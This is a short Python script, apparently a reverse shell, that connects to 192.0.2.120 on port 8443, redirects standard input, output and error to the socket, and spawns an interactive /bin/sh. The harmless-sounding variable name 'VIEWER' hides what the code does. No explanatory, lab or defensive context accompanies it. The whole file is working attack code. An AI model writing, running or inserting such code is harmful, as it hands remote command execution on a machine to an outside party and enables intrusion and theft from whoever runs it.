import os
import pty
import socket

VIEWER = ("192.0.2.120", 8443)

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(VIEWER)
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/sh")
